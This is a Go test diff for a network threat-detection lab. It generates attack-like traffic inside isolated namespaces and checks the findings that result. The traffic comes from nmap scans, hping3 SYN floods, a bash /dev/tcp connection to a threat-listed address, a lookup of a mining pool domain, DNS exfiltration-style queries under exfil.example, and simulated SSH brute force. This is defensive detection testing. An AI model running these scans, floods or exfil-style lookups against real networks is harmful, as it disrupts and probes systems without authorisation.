@@ -66,6 +66,9 @@ func inNS(t *testing.T, ns string, argv ...string) string {
 	return string(out)
 }
 
+// seen is every finding id a scenario already accounted for.
+var seen = map[string]bool{}
+
 // want is one expected finding.
 type want struct {
 	typ           string
@@ -77,19 +80,32 @@ type want struct {
 }
 
 // expectOne waits for findings changed after seq and requires exactly
-// the expected one among them, new (count as given by the tool's run)
-// and deduplicated: no second finding of its key.
-func expectOne(t *testing.T, c *api.Client, seq uint64, w want, within time.Duration) (detect.Finding, uint64) {
+// one new finding among them, the expected one (updates of findings seen
+// before are left alone: earlier flows' records arrive late), and no
+// second finding of its key.
+//
+// seq moves past what was seen even on failure, so one scenario's
+// failure does not spill into the next.
+func expectOne(t *testing.T, c *api.Client, seq *uint64, w want, within time.Duration) detect.Finding {
 	t.Helper()
+	defer func() {
+		all, _ := c.Findings(context.Background(), detect.Query{})
+		for _, f := range all.Findings {
+			seen[f.ID] = true
+		}
+	}()
 	deadline := time.Now().Add(within)
 	for {
-		page, err := c.Findings(context.Background(), detect.Query{After: seq})
+		page, err := c.Findings(context.Background(), detect.Query{After: *seq})
 		if err != nil {
 			t.Fatal(err)
 		}
 		var match []detect.Finding
 		var other []string
 		for _, f := range page.Findings {
+			if seen[f.ID] {
+				continue
+			}
 			local, remote := "", ""
 			var nc = f.Service.Action.NetworkConnectionAction
 			switch {
@@ -116,9 +132,11 @@ func expectOne(t *testing.T, c *api.Client, seq uint64, w want, within time.Dura
 			}
 		}
 		if len(match) == 1 && len(other) == 0 {
-			return match[0], page.Seq
+			*seq = page.Seq
+			return match[0]
 		}
 		if len(match) > 1 || len(other) > 0 || time.Now().After(deadline) {
+			*seq = page.Seq
 			t.Fatalf("want exactly %+v; got %d matching, others: %v", w, len(match), other)
 		}
 		time.Sleep(100 * time.Millisecond)
@@ -130,7 +148,7 @@ func expectOne(t *testing.T, c *api.Client, seq uint64, w want, within time.Dura
 // addresses, VNI, session), once: the traffic generator first (benign: no
 // finding), nmap SYN and connect scans out of and into the workload,
 // hping3 SYN floods both ways (bounded counts), a threat-listed address
-// pinged (the finding within a second), dig for a listed mining domain
+// contacted (the finding within a second), dig for a listed mining domain
 // and for long random labels at a rate (DNS reaches the detectors as
 // samples through a capture rule), and repeated short SSH connections.
 func TestLabFindings(t *testing.T) {
@@ -179,48 +197,48 @@ func TestLabFindings(t *testing.T) {
 
 	vni := s1.VNI
 	t.Run("threat list, within a second", func(t *testing.T) {
+		// One TCP connection attempt (the listed host answers RST).
 		began := time.Now()
-		inNS(t, s1.NS, "ping", "-c", "1", "-W", "1", listed.String())
-		f, next := expectOne(t, c, seq, want{detect.TypeMaliciousIP, 5, detect.Actor, wl, listed.String(), vni, "lab-src1"}, time.Second)
-		if took := time.Since(began); took > 1500*time.Millisecond { // ping's own second of waiting at most, plus the detection
-			t.Errorf("finding after %v", took)
+		inNS(t, s1.NS, "bash", "-c", "exec 3<>/dev/tcp/"+listed.String()+"/443 || true")
+		f := expectOne(t, c, &seq, want{detect.TypeMaliciousIP, 5, detect.Actor, wl, listed.String(), vni, "lab-src1"}, time.Second)
+		if took := time.Since(began); took > time.Second {
+			t.Errorf("finding %v after the first packet", took)
 		}
 		t.Logf("finding %s %v after the first packet", f.ID, f.CreatedAt.Sub(f.Service.EventFirstSeen))
-		seq = next
 	})
 	t.Run("nmap SYN scan out of the workload", func(t *testing.T) {
 		inNS(t, s1.NS, "nmap", "-n", "-Pn", "-sS", "-T4", "--max-retries", "0", "-p", "1-300", peer)
-		_, seq = expectOne(t, c, seq, want{detect.TypePortscan, 5, detect.Actor, wl, peer, vni, "lab-src1"}, 5*time.Second)
+		expectOne(t, c, &seq, want{detect.TypePortscan, 5, detect.Actor, wl, peer, vni, "lab-src1"}, 5*time.Second)
 	})
 	t.Run("nmap connect scan out of the workload, IPv6", func(t *testing.T) {
 		inNS(t, s1.NS, "nmap", "-6", "-n", "-Pn", "-sT", "-T4", "--max-retries", "0", "-p", "1-300", peer6)
-		_, seq = expectOne(t, c, seq, want{detect.TypePortscan, 5, detect.Actor, wl6, peer6, vni, "lab-src1"}, 5*time.Second)
+		expectOne(t, c, &seq, want{detect.TypePortscan, 5, detect.Actor, wl6, peer6, vni, "lab-src1"}, 5*time.Second)
 	})
 	t.Run("nmap SYN scan into the workload", func(t *testing.T) {
 		inNS(t, s1.PeerNS, "nmap", "-n", "-Pn", "-sS", "-T4", "--max-retries", "0", "-p", "1000-1200", wl)
-		_, seq = expectOne(t, c, seq, want{detect.TypePortProbe, 2, detect.Target, wl, peer, vni, "lab-src1"}, 5*time.Second)
+		expectOne(t, c, &seq, want{detect.TypePortProbe, 2, detect.Target, wl, peer, vni, "lab-src1"}, 5*time.Second)
 	})
 	t.Run("nmap connect scan into the workload, IPv6", func(t *testing.T) {
 		inNS(t, s1.PeerNS, "nmap", "-6", "-n", "-Pn", "-sT", "-T4", "--max-retries", "0", "-p", "1000-1200", wl6)
-		_, seq = expectOne(t, c, seq, want{detect.TypePortProbe, 2, detect.Target, wl6, peer6, vni, "lab-src1"}, 5*time.Second)
+		expectOne(t, c, &seq, want{detect.TypePortProbe, 2, detect.Target, wl6, peer6, vni, "lab-src1"}, 5*time.Second)
 	})
 	t.Run("hping3 SYN flood out of the workload", func(t *testing.T) {
 		inNS(t, s1.NS, "hping3", "-q", "-S", "-p", "80", "-c", "800", "-i", "u300", peer)
-		_, seq = expectOne(t, c, seq, want{detect.TypeDoSTCP, 8, detect.Actor, wl, peer, vni, "lab-src1"}, 5*time.Second)
+		expectOne(t, c, &seq, want{detect.TypeDoSTCP, 8, detect.Actor, wl, peer, vni, "lab-src1"}, 5*time.Second)
 	})
 	t.Run("hping3 SYN flood into the workload", func(t *testing.T) {
 		inNS(t, s1.PeerNS, "hping3", "-q", "-S", "-p", "8080", "-c", "800", "-i", "u300", wl)
-		_, seq = expectOne(t, c, seq, want{detect.TypeDoSTCP, 8, detect.Target, wl, peer, vni, "lab-src1"}, 5*time.Second)
+		expectOne(t, c, &seq, want{detect.TypeDoSTCP, 8, detect.Target, wl, peer, vni, "lab-src1"}, 5*time.Second)
 	})
 	t.Run("dig for a listed mining domain", func(t *testing.T) {
 		inNS(t, s1.NS, "bash", "-c", "dig +tries=1 +time=1 @"+peer+" pool.minexmr.com || true")
-		_, seq = expectOne(t, c, seq, want{detect.TypeBitcoinToolDNS, 8, detect.Actor, wl, "pool.minexmr.com", vni, "lab-src1"}, 5*time.Second)
+		expectOne(t, c, &seq, want{detect.TypeBitcoinToolDNS, 8, detect.Actor, wl, "pool.minexmr.com", vni, "lab-src1"}, 5*time.Second)
 	})
 	t.Run("dig with long random labels at a rate", func(t *testing.T) {
 		inNS(t, s1.NS, "bash", "-c", `for i in $(seq 30); do
   dig +tries=1 +time=1 @`+peer+` $(head -c 30 /dev/urandom | base32 | tr -d = | tr A-Z a-z).$i.exfil.example >/dev/null &
 done; wait; true`)
-		_, seq = expectOne(t, c, seq, want{detect.TypeDNSExfil, 8, detect.Actor, wl, "exfil.example", vni, "lab-src1"}, 5*time.Second)
+		expectOne(t, c, &seq, want{detect.TypeDNSExfil, 8, detect.Actor, wl, "exfil.example", vni, "lab-src1"}, 5*time.Second)
 	})
 	t.Run("repeated short connections to port 22", func(t *testing.T) {
 		// A listener on the workload's port 22 that greets and closes.
@@ -241,7 +259,7 @@ while True:
 			t.Fatalf("listener: %v", err)
 		}
 		inNS(t, s1.PeerNS, "bash", "-c", `for i in $(seq 25); do exec 3<>/dev/tcp/`+wl+`/22; head -c 13 <&3 >/dev/null; exec 3>&-; sleep 0.05; done`)
-		_, seq = expectOne(t, c, seq, want{detect.TypeSSHBrute, 2, detect.Target, wl, peer, vni, "lab-src1"}, 8*time.Second)
+		expectOne(t, c, &seq, want{detect.TypeSSHBrute, 2, detect.Target, wl, peer, vni, "lab-src1"}, 8*time.Second)
 	})
 
 	// Every finding also went to the JSON lines log, once each.
